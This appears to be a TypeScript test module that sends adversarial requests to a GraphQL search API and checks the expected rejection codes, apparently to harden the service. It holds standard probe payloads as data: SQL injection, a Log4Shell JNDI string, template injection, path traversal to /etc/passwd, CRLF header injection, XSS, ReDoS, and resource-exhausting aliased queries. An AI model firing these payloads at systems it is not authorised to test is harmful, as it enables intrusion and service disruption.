import type { RawRequest } from '../send-raw.js';
import { type Attack, bearer, type Loot, operation, times } from './attack.js';

const SEARCH =
  'query ($q: String!) { search(query: $q) { totalCount interpretation { original } nodes { id } } }';

/** Values that are too many, too large, or forged. */
export function values({ keys, cursor }: Loot): Attack[] {
  const input = (name: string, request: RawRequest, status = 200, says?: RegExp): Attack => ({
    name,
    request,
    status,
    code: 'BAD_USER_INPUT',
    says,
  });
  const filter =
    'query ($slugs: [String!]) { search(filter: { categorySlugs: $slugs }) { totalCount } }';
  const page = 'query ($n: Int!) { search(first: $n) { totalCount } }';
  const after = (value: string, rest = '') =>
    operation(`query ($after: String) { search(first: 1${rest}, after: $after) { totalCount } }`, {
      after: value,
    });
  return [
    {
      name: 'a variable of 100,000 elements',
      request: operation(filter, { slugs: Array(100_000).fill('a') }),
      status: 413,
      code: 'LIMIT_EXCEEDED',
    },
    input(
      'a variable of 100,000 elements from an editor',
      operation(filter, { slugs: Array(100_000).fill('a') }, bearer(keys.editor)),
      200,
      /100,000 entries; at most 1,000/,
    ),
    {
      name: '10,000 coercion errors',
      request: operation(filter, { slugs: Array(10_000).fill(1) }),
      status: 400,
      // The last error says that there are more.
      code: 'BAD_USER_INPUT BAD_REQUEST',
    },
    input(
      'a page of 10^9',
      operation(page, { n: 1e9 }),
      200,
      /first is 1000000000; it must be from 0 to 100/,
    ),
    input('a page of 10^99', operation(page, { n: 1e99 }), 400),
    input('a page of -1', operation(page, { n: -1 }), 200, /from 0 to 100/),
    input(
      'a query of 10,000 characters',
      operation(SEARCH, { q: '가'.repeat(10_000) }),
      200,
      /10000 characters; at most 200/,
    ),
    input('a forged cursor', after(`${cursor.slice(0, -4)}AAAA`)),
    input('the cursor of another search', after(cursor, ', query: "신고"')),
    input('a cursor of 50,000 characters', after('A'.repeat(50_000))),
    input('NUL in a query', operation(SEARCH, { q: 'a\u0000b' }), 200, /U\+0000 at position 1/),
    input('ANSI escapes in a query', operation(SEARCH, { q: '\u001b[31mred' }), 200, /U\+001B/),
    input('a C1 control in a query', operation(SEARCH, { q: '\u009b31mred' }), 200, /U\+009B/),
    input(
      'a lone surrogate in a query',
      operation(SEARCH, { q: 'a\ud800' }),
      200,
      /lone surrogate/,
    ),
    input(
      'SQL in a sort, by a variable',
      operation('query ($s: SearchSort!) { search(sort: $s) { totalCount } }', {
        s: 'TITLE; drop table article',
      }),
      400,
    ),
    {
      name: 'SQL in a sort',
      request: operation('{ search(sort: "TITLE; drop table article") { totalCount } }'),
      status: 400,
      code: 'GRAPHQL_VALIDATION_FAILED',
    },
    ...costly(),
    ...[
      'title:(a OR b) AND NOT c^9 ~2 [* TO *] {1 TO 9}',
      '/.*a.*b.*c.*(a+)+$/',
      '*a*b*c*',
      "'; drop table article; --",
      '"%\' or 1=1',
      '${jndi:ldap://x/a}',
      '{{7*7}}',
      '../../etc/passwd',
      '_exists_:title',
      '"unclosed',
      'a\r\nSet-Cookie: x=1',
      '<script>alert(1)</script>',
      'javascript:alert(1)',
    ].map((q): Attack => ({
      name: `the query ${JSON.stringify(q)}`,
      request: operation(SEARCH, { q }),
      status: 200,
      code: null,
    })),
  ];
}

/** Small requests that could take long to process. */
function costly(): Attack[] {
  const words = [
    '환불',
    '결제',
    '계정',
    '비밀번호',
    '알림',
    '설정',
    '주문',
    '배송',
    '메시지',
    '지도',
    '음악',
    '메일',
  ];
  const run = (seed: number, length: number) => {
    let text = '';
    for (let i = seed; text.length < length; i = (i * 31 + 7) % 9_973)
      text += words[i % words.length];
    return text.slice(0, length);
  };
  const aliased = (count: number, field: (i: number) => string) =>
    operation(`{ ${times(count, (i) => `a${i}: ${field(i)}`)} }`);
  return [
    {
      name: '16 searches of 199 letters without a space',
      request: aliased(
        16,
        (i) => `search(query: "${run(i + 1, 199)}") { totalCount interpretation { searched } }`,
      ),
      status: 200,
      code: null,
    },
    {
      name: '16 suggestions of 100 letters without a space',
      request: aliased(16, (i) => `suggest(prefix: "${run(i + 1, 100)}") { text }`),
      status: 200,
      code: null,
    },
    {
      name: '45 times 1,000 facets',
      request: operation(
        `query ($f: [FacetField!]) { search { ${times(45, (i) => `a${i}: facets(fields: $f) { values { slug } }`)} } }`,
        {
          f: Array(1_000).fill('CATEGORY'),
        },
      ),
      status: 200,
      code: null,
    },
    {
      name: '48 times all texts',
      request: operation(
        `{ articles(first: 30) { nodes { variants { ${times(48, (i) => `a${i}: bodyText`)} } } } }`,
      ),
      status: 400,
      code: 'LIMIT_EXCEEDED',
    },
    {
      name: 'a target that is an address',
      request: {
        method: 'GET',
        path: 'http://evil:99999/graphql?query=%7B__typename%7D',
      },
      status: 200,
      code: null,
    },
  ];
}
